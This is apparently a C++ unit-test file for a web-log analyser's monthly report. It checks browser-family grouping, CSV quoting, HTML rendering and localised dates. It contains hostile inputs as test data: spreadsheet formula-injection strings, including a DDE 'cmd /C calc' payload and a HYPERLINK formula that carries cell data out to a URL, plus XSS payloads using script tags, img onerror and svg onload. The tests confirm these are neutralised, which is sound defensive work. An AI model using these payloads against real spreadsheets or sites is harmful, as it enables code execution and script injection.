// SPDX-License-Identifier: GPL-3.0-or-later
// The month report: browser families, CSV quoting and formula cells, a
// hostile log's page (markup, huge texts), and the report of a month analysed
// by an earlier version, headings and date.
#include <gtest/gtest.h>

#include <set>

#include "engine/agent_family.h"
#include "engine/analyse_log.h"
#include "engine/engine_test_store.h"
#include "report/month_report.h"
#include "report/report_csv.h"
#include "report/report_date.h"
#include "report/report_html.h"
#include "report/report_text.h"
#include "store/extra_result_names.h"

namespace trafikon::report {
namespace {

using trafikon::testing::Combined;
using trafikon::testing::ScriptedObserver;
using trafikon::testing::TestStore;

TEST(BrowserFamiliesTest, GroupsAgentsByFamilyVersionAndSystem) {
    using Family = std::pair<std::string, std::string>;
    auto family = [](const char* agent) { return Family{BrowserFamilyOf(agent), SystemOf(agent)}; };
    const auto edge = family(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91");
    EXPECT_EQ(edge, (Family{"Edge 120", "Windows"}));
    const auto safari = family(
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1");
    EXPECT_EQ(safari, (Family{"Safari 17", "iOS"}));
    const auto android = family(
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.6099.144 Mobile Safari/537.36");
    EXPECT_EQ(android, (Family{"Chrome 120", "Android"}));
    EXPECT_EQ(SystemOf("Mozilla/5.0 (Macintosh; Intel Mac OS X 14.2; rv:121.0) Gecko/20100101 "
                       "Firefox/121.0"),
              "macOS");
    EXPECT_EQ(BrowserFamilyOf("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"),
              "Internet Explorer 6");

    // An agent whose hits are split between people and a robot adds to both.
    FamilyTally tally;
    tally.AddAgent("Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0", 5, 0);
    tally.AddAgent("Mozilla/5.0 (Windows NT 10.0; rv:121.0) Gecko/20100101 Firefox/121.0", 7, 3);
    tally.AddAgent("Wget/1.21", 0, 20);
    const FamilyGroups g = tally.Groups();
    ASSERT_EQ(g.browsers.size(), 2u);
    EXPECT_EQ(g.browsers[0].name, kRobotFamily);
    EXPECT_EQ(g.browsers[0].hits, 23);
    EXPECT_EQ(g.browsers[1].name, "Firefox 121");
    EXPECT_EQ(g.browsers[1].hits, 12);
    EXPECT_EQ(g.browsers[1].agents, 2);
    ASSERT_EQ(g.systems.size(), 3u);
    EXPECT_EQ(g.systems[0].name, kRobotFamily);
    EXPECT_EQ(g.systems[1].name, "Windows");
    FamilyGroups back;
    ASSERT_TRUE(ParseFamilies(FormatFamilies(g), back));
    EXPECT_EQ(back.systems[2].name, "Linux");
    EXPECT_EQ(back.browsers[0].agents, 2);
}

TEST(ReportCsvTest, QuotesFieldsAsRfc4180) {
    ReportTable t;
    t.columns = {"Name", "Hits"};
    t.rows = {
        {"plain", "1"}, {"a,b", "2"}, {"say \"hi\"", "3"}, {"two\r\nlines", "4"}, {" padded", "5"}};
    EXPECT_EQ(TableCsv(t),
              "Name,Hits\r\nplain,1\r\n\"a,b\",2\r\n\"say \"\"hi\"\"\",3\r\n\"two\r\nlines\",4\r\n"
              "\" padded\",5\r\n");
    EXPECT_EQ(Cp1252ToUtf8("caf\xe9 \x80"), "caf\xc3\xa9 \xe2\x82\xac");
    // Cells a spreadsheet would evaluate are kept as text; numbers stay numbers.
    t.rows = {{"=HYPERLINK(\"http://x/?\"&A1)", "-3"},
              {"+cmd|' /C calc'!A0", "+1.5"},
              {"-2+3", "@SUM(A1)"},
              {"\tx", "\r=1"}};
    EXPECT_EQ(
        TableCsv(t),
        "Name,Hits\r\n\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",-3\r\n'+cmd|' /C calc'!A0,+1.5\r\n"
        "'-2+3,'@SUM(A1)\r\n'\tx,\"'\r=1\"\r\n");
}

MonthReport ReportOf(TestStore& store, const std::string& key) {
    MonthResults results;
    LoadMonthResults(store.siteDir(), key, results);
    LanguageTable texts;
    texts.Assign(BuiltInEnglish());
    return BuildMonthReport(results, LoadMonthExtras(store.siteDir(), key), texts, "today");
}

TEST(ReportHtmlTest, HostileLogLeavesNoMarkupInThePage) {
    TestStore store;
    const std::string evil = "\"><script>alert(1)</script><img src=x onerror=alert(2)>";
    store.AddMonth(
        "2004-05",
        {Combined("<b>host</b>", "03/May/2004:10:00:00 +0200", "GET /p<script>.html?q=1 HTTP/1.0",
                  "200", "10", "http://evil.example/?q=<svg/onload=alert(3)>", "bot" + evil),
         Combined("1.1.1.1", "03/May/2004:11:00:00 +0200", "GET /caf\xe9.html HTTP/1.0", "200",
                  "10", "http://x.example/" + evil, "Mozilla" + evil),
         Combined("1.1.1.1", "03/May/2004:12:00:00 +0200",
                  "GET /" + std::string(100000, 'a') + " HTTP/1.0", "200", "10")});
    ScriptedObserver observer;
    ASSERT_TRUE(AnalyseLog(store.siteDir(), "2004-05", "", observer).completed);
    const MonthReport report = ReportOf(store, "2004-05");
    EXPECT_TRUE(report.extrasMissing.empty());
    const std::string html = RenderReportHtml(report, "en");
    for (const char* markup : {"<script", "<img", "<b>", "<svg/", "\"><img", "\"><script"})
        EXPECT_EQ(html.find(markup), std::string::npos) << markup;
    EXPECT_NE(html.find("&lt;script&gt;alert(1)&lt;/script&gt;"), std::string::npos);
    EXPECT_NE(html.find("/caf\xc3\xa9.html"), std::string::npos);  // Windows-1252 to UTF-8
    EXPECT_NE(html.find("<svg viewBox"), std::string::npos);       // the graphs are inline
    EXPECT_EQ(html.find("src=\""), std::string::npos);             // and nothing is fetched
    EXPECT_EQ(html.find("href="), std::string::npos);
    // A huge path is cut as the windows cut it, in the page and in the CSV.
    EXPECT_NE(html.find(std::string(3999, 'a') + "\xE2\x80\xA6"), std::string::npos);
    EXPECT_EQ(html.find(std::string(4001, 'a')), std::string::npos);
    for (const ReportTable& t : report.tables)
        EXPECT_EQ(TableCsv(t).find(std::string(4001, 'a')), std::string::npos) << t.name;
}

TEST(ReportHtmlTest, MonthOfAnEarlierVersionSaysToAnalyseAgain) {
    TestStore store;
    store.AddMonth("2004-05", {Combined("1.1.1.1", "03/May/2004:10:00:00 +0200",
                                        "GET /a.html HTTP/1.0", "200", "1")});
    ScriptedObserver observer;
    ASSERT_TRUE(AnalyseLog(store.siteDir(), "2004-05", "", observer).completed);
    for (const std::string& name : ExtraAnalysisFileNames("2004-05"))
        std::remove((store.siteDir() + name).c_str());
    const MonthReport report = ReportOf(store, "2004-05");
    EXPECT_FALSE(report.extrasMissing.empty());
    EXPECT_EQ(report.graphs.size(), 1u);  // the days, not the hours
    for (const ReportTable& t : report.tables)
        EXPECT_NE(t.name, "robots");
    EXPECT_NE(RenderReportHtml(report, "en").find("analyse it again"), std::string::npos);
}

// A graph sits under the heading of its list, so no heading comes twice; the
// date under the title is written in the report's language.
TEST(ReportHtmlTest, EachHeadingOnceAndTheDateInTheReportLanguage) {
    TestStore store;
    store.AddMonth("2004-05", {Combined("1.1.1.1", "03/May/2004:10:00:00 +0200",
                                        "GET /a.html HTTP/1.0", "200", "1")});
    ScriptedObserver observer;
    ASSERT_TRUE(AnalyseLog(store.siteDir(), "2004-05", "", observer).completed);
    const std::string html = RenderReportHtml(ReportOf(store, "2004-05"), "en");
    std::set<std::string> headings;
    for (std::size_t at = html.find("<h2>"); at != std::string::npos;
         at = html.find("<h2>", at + 1))
        EXPECT_TRUE(headings.insert(html.substr(at, html.find("</h2>", at) - at)).second)
            << html.substr(at, 40);
    EXPECT_GE(headings.size(), 10u);

    LanguageTable fr, en;
    fr.Assign(BuiltInFrench());
    en.Assign(BuiltInEnglish());
    EXPECT_EQ(ReportDate(2026, 12, 8, fr),
              "8 d\xc3\xa9"
              "cembre 2026");
    EXPECT_EQ(ReportDate(2026, 2, 1, en), "1 February 2026");
    LanguageTable old;  // a language file without the month names
    EXPECT_EQ(ReportDate(2026, 12, 8, old), "2026-12-08");
}

}  // namespace
}  // namespace trafikon::report
